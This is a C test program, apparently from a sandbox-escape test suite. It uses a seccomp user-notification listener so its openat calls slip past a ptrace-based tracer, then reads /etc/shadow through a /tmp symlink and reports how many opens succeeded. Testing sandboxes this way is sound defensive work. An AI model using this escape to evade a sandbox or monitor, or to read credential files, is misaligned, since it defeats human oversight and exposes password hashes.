/*
 * esc_listener: the seccomp-listener escape.  One thread installs a filter
 * with SECCOMP_FILTER_FLAG_NEW_LISTENER that sends its own openat calls to
 * the listener (SECCOMP_RET_USER_NOTIF, which the kernel ranks above a
 * tracer's SECCOMP_RET_TRACE); the main thread answers every notification
 * with SECCOMP_USER_NOTIF_FLAG_CONTINUE, so the call runs as asked.  The
 * installing thread then opens argv[1] (default /etc/shadow) five times
 * through a symlink made in argv[2] (default /tmp).
 *
 * With argv[3], the opens wait until that file exists (a tracer can
 * attach after the filter is in).
 *
 * Prints "install: ok" or "install: <errno name>" as soon as it is known,
 * then "opens: N of 5", then "notified: N" (calls the listener answered);
 * exits 0.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "esc_filter.h"


static const char *target = "/etc/shadow";
static char link_path[256];
static int listener = -1;
static int install_err, opened, done;
static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t cv = PTHREAD_COND_INITIALIZER;
static int stage;	/* 1: install tried */
static const char *go_file;

static void *installer(void *arg)
{
	(void)arg;
	long fd = esc_openat_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
	pthread_mutex_lock(&mu);
	install_err = fd < 0 ? errno : 0;
	listener = (int)fd;
	stage = 1;
	pthread_cond_signal(&cv);
	pthread_mutex_unlock(&mu);
	while (go_file && access(go_file, F_OK) != 0)
		usleep(10000);
	for (int i = 0; i < 5; i++) {
		int o = (int)syscall(SYS_openat, AT_FDCWD, link_path, O_RDONLY);
		if (o >= 0) {
			opened++;
			close(o);
		}
	}
	__atomic_store_n(&done, 1, __ATOMIC_SEQ_CST);
	return NULL;
}

/* Answer notifications until the installer is done and none is pending. */
static int supervise(int fd)
{
	int answered = 0;
	for (;;) {
		struct pollfd p = { fd, POLLIN, 0 };
		int r = poll(&p, 1, 50);
		/* POLLHUP: the filtered thread is gone */
		if (r <= 0 || !(p.revents & POLLIN)) {
			if (__atomic_load_n(&done, __ATOMIC_SEQ_CST) || (p.revents & POLLHUP))
				return answered;
			continue;
		}
		struct seccomp_notif req;
		memset(&req, 0, sizeof(req));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue;	/* the caller gave up (a signal) */
		struct seccomp_notif_resp resp;
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			answered++;
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 1)
		target = argv[1];
	if (argc > 3)
		go_file = argv[3];
	snprintf(link_path, sizeof(link_path), "%s/esc_listener.%d", argc > 2 ? argv[2] : "/tmp", (int)getpid());
	unlink(link_path);
	if (symlink(target, link_path) != 0) {
		printf("symlink: %s\n", strerror(errno));
		return 1;
	}
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) {
		printf("no_new_privs: %s\n", strerror(errno));
		return 1;
	}
	pthread_t th;
	pthread_create(&th, NULL, installer, NULL);
	pthread_mutex_lock(&mu);
	while (!stage)
		pthread_cond_wait(&cv, &mu);
	pthread_mutex_unlock(&mu);
	printf("install: %s\n", install_err == 0 ? "ok" : install_err == EPERM ? "EPERM" : strerror(install_err));
	int answered = listener >= 0 ? supervise(listener) : 0;
	pthread_join(th, NULL);
	unlink(link_path);
	printf("opens: %d of 5\n", opened);
	printf("notified: %d\n", answered);
	return 0;
}
